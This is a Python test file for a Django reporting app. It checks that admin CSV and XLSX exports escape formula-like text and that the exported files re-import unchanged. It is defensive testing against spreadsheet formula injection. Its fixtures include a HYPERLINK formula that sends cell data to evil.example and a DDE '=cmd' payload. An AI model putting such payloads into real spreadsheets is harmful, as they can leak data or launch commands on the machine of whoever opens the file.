"""Every admin export of figures writes formula-like text as text, holds no formula cell,
and imports back unchanged (the quote it gained is taken off again)."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models

from ictreport.core.export import FORMULA_TRIGGERS
from ictreport.core.models import Organisation
from ictreport.core.numbers import is_plain_decimal
from tests.imports.conftest import admin_confirm, admin_export, admin_import
from tests.imports.factories import CSV, SECTIONS, XLSX, spreadsheet

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+SUM(1,2)", "-2+3", "@cmd"]


def _cells(content: bytes, file_format: str):
    if file_format == CSV:
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))
                for cell in row], []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    return [c.value for c in cells], [c.coordinate for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("section", SECTIONS, ids=[s.name for s in SECTIONS])
@pytest.mark.parametrize("file_format", [CSV, XLSX])
def test_admin_export_is_formula_safe_and_imports_back_unchanged(
        section, file_format, organisation, editor_client):
    section.setup(organisation)
    client = editor_client(section)
    upload = spreadsheet(section.headers, section.file_rows(organisation), file_format)
    admin_confirm(client, section, admin_import(client, section, upload, file_format))
    texts = [f for f in section.model._meta.concrete_fields
             if isinstance(f, models.CharField | models.TextField) and not f.choices]
    for index, field in enumerate(texts):
        section.model.objects.update(**{field.attname: HOSTILE[index % len(HOSTILE)]})
    key = section.model._meta.get_field(section.resource.key_field)
    if key.is_relation:  # a channel, team or budget line named like a formula
        first = key.related_model.objects.order_by("pk").first()
        key.related_model.objects.filter(pk=first.pk).update(name="=cmd|'/C calc'!A0")
    # Even a short name may start like a formula: a slug may begin with "-".
    Organisation.objects.filter(pk=organisation.pk).update(slug="-gwent-police")
    before = list(section.model.objects.order_by("pk").values())

    response = admin_export(client, section, file_format)

    assert response.status_code == 200
    values, formulas = _cells(response.content, file_format)
    assert formulas == []
    assert [v for v in values if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS)
            and not is_plain_decimal(v)] == []
    assert any(isinstance(v, str) and v.startswith("'") for v in values), (
        "the hostile text reached no cell: the test would prove nothing")

    again = admin_import(client, section,
                         SimpleUploadedFile(f"again.{file_format}", response.content),
                         file_format)
    result = again.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.valid_rows()} == {"skip"}
    admin_confirm(client, section, again)
    assert list(section.model.objects.order_by("pk").values()) == before
